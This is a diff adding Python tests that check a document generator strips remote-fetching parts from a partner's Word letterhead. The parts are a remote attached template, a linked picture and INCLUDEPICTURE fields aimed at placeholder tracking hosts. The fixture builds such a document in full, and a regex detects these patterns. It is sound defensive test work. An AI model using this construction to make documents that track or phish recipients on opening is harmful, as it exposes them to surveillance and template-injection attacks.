@@ -175,3 +175,147 @@ def test_carta_archive_refuses_a_key_at_the_root_before_any_work(sample):
     assert "carta.toml: archive.signing_key:" in result.output
     assert "is inside the project" in result.output
     assert not (sample.root / "output/archive/manifest.json").exists()
+
+
+# R12: a partner's reference document keeps no link Word would follow by itself -----------
+
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REMOTE = ("https://plantillas.example.invalid/membrete.dotm",
+          "http://imagenes.example.invalid/logo.png",
+          "http://rastreo.example.invalid/pixel.png",
+          "http://rastreo.example.invalid/partido.png")
+KEPT_LINK = "https://red-socia.example.org/"
+
+
+def hostile_letterhead(path: Path) -> Path:
+    """A fictional partner's letterhead that calls home: an attached template on a server, a
+    header picture also linked from a server, an INCLUDEPICTURE field (once whole, once split
+    over two runs), and an ordinary hyperlink in the footer, which may stay."""
+    import base64
+    import io
+    import zipfile
+
+    import docx
+
+    document = docx.Document()
+    header = document.sections[0].header
+    header.paragraphs[0].text = "Red Socia Ejemplo · membrete"
+    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
+                           "DwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
+    header.add_paragraph().add_run().add_picture(io.BytesIO(png))
+    raw = io.BytesIO()
+    document.save(raw)
+    with zipfile.ZipFile(io.BytesIO(raw.getvalue())) as source:
+        parts = {info.filename: source.read(info.filename) for info in source.infolist()}
+    header_part = next(name for name in parts if name.startswith("word/header"))
+    pixel, stamp = REMOTE[2], REMOTE[3]
+    field = (f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{pixel}&quot; \\d ">'
+             '<w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p>')
+    split = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
+             f'</w:instrText></w:r><w:r><w:instrText>PICTURE "{stamp}" \\d</w:instrText>'
+             '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>sello</w:t>'
+             '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    text = parts[header_part].decode("utf-8")
+    text = text.replace("<a:blip ", '<a:blip r:link="rIdLogo" ', 1)
+    parts[header_part] = text.replace("</w:hdr>", field + split + "</w:hdr>").encode()
+    settings = parts["word/settings.xml"].decode("utf-8")
+    parts["word/settings.xml"] = settings.replace(
+        "<w:zoom ", '<w:attachedTemplate r:id="rIdPlantilla"/><w:zoom ', 1).encode()
+    assert b"attachedTemplate" in parts["word/settings.xml"]
+    empty = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
+             '"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    parts["word/_rels/settings.xml.rels"] = empty.replace("</Relationships>", (
+        f'<Relationship Id="rIdPlantilla" Type="{R_NS}/attachedTemplate" Target="{REMOTE[0]}" '
+        'TargetMode="External"/></Relationships>')).encode()
+    rels = f"word/_rels/{header_part.split('/')[-1]}.rels"
+    parts[rels] = parts.get(rels, empty.encode()).decode("utf-8").replace("</Relationships>", (
+        f'<Relationship Id="rIdLogo" Type="{R_NS}/image" Target="{REMOTE[1]}" '
+        f'TargetMode="External"/><Relationship Id="rIdWeb" Type="{R_NS}/hyperlink" '
+        f'Target="{KEPT_LINK}" TargetMode="External"/></Relationships>')).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+    return path
+
+
+def remote_links(data: bytes) -> list[str]:
+    """Every external target in a package's relationships, and every fetching field code."""
+    import io
+    import re
+    import zipfile
+
+    found = []
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        for name in package.namelist():
+            text = package.read(name).decode("utf-8", "replace")
+            if name.endswith(".rels"):
+                found += re.findall(r'Target="([^"]+)"[^>]*TargetMode="External"', text)
+            found += re.findall(r"INCLUDE|PICTURE|attachedTemplate", text)
+    return found
+
+
+def test_a_reference_document_loses_every_link_word_would_follow_on_opening(tmp_path):
+    """R12: the coalition's DOCX kept a partner letterhead's remote attachedTemplate and
+    linked picture, and Word fetched them on open (a known phishing technique)."""
+    import io
+    import zipfile
+
+    import docx
+
+    from generator.outputs.docx_package import read_reference
+
+    letterhead = hostile_letterhead(tmp_path / "membrete.docx")
+    assert {*REMOTE[:2], KEPT_LINK} <= set(remote_links(letterhead.read_bytes()))
+    notices = []
+    cleaned = read_reference(letterhead, notices.append)
+    assert remote_links(cleaned) == [KEPT_LINK]  # a hyperlink is followed only on a click
+    [notice] = notices
+    assert notice.kind == "refused-resource"
+    for target in REMOTE:
+        assert target in notice.message
+    assert "the attached template" in notice.message and "a linked picture" in notice.message
+    assert "membrete.docx" in notice.message
+    # The letterhead is still whole: its header text, and its picture, which is embedded.
+    document = docx.Document(io.BytesIO(cleaned))
+    header = document.sections[0].header
+    assert header.paragraphs[0].text == "Red Socia Ejemplo · membrete"
+    assert [p.text for p in header.paragraphs[-2:]] == ["logo", "sello"]
+    assert len(header.part.element.xpath(".//a:blip/@r:embed")) == 1
+    with zipfile.ZipFile(io.BytesIO(cleaned)) as package:
+        assert package.testzip() is None
+
+
+def test_a_clean_reference_document_is_left_as_it_is(tmp_path):
+    import docx
+
+    from generator.outputs.docx_package import read_reference
+
+    path = tmp_path / "membrete.docx"
+    document = docx.Document()
+    document.sections[0].header.paragraphs[0].text = "Red Socia Ejemplo"
+    document.save(str(path))
+    notices = []
+    assert read_reference(path, notices.append) == path.read_bytes()
+    assert notices == []
+
+
+def test_the_docx_built_on_a_hostile_letterhead_calls_nowhere(sample, tmp_path):
+    letterhead = hostile_letterhead(tmp_path / "membrete.docx")
+    result = run(sample.root, "build", "--format", "docx", "--reference-doc", str(letterhead))
+    assert result.exit_code == 0, result.output
+    built = (sample.root / "output/carta-prueba/carta-prueba.es.docx").read_bytes()
+    assert not set(REMOTE) & set(remote_links(built))
+    assert not {"INCLUDE", "PICTURE", "attachedTemplate"} & set(remote_links(built))
+
+
+@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
+def test_a_reference_document_that_is_no_file_is_refused_at_once(tmp_path, special):
+    import os
+
+    from generator.outputs.docx_package import read_reference
+
+    if special == "fifo":
+        special = tmp_path / "membrete.docx"
+        os.mkfifo(special)
+    with pytest.raises(CartaError, match="expected a Word document, found a device, pipe"):
+        read_reference(Path(special))
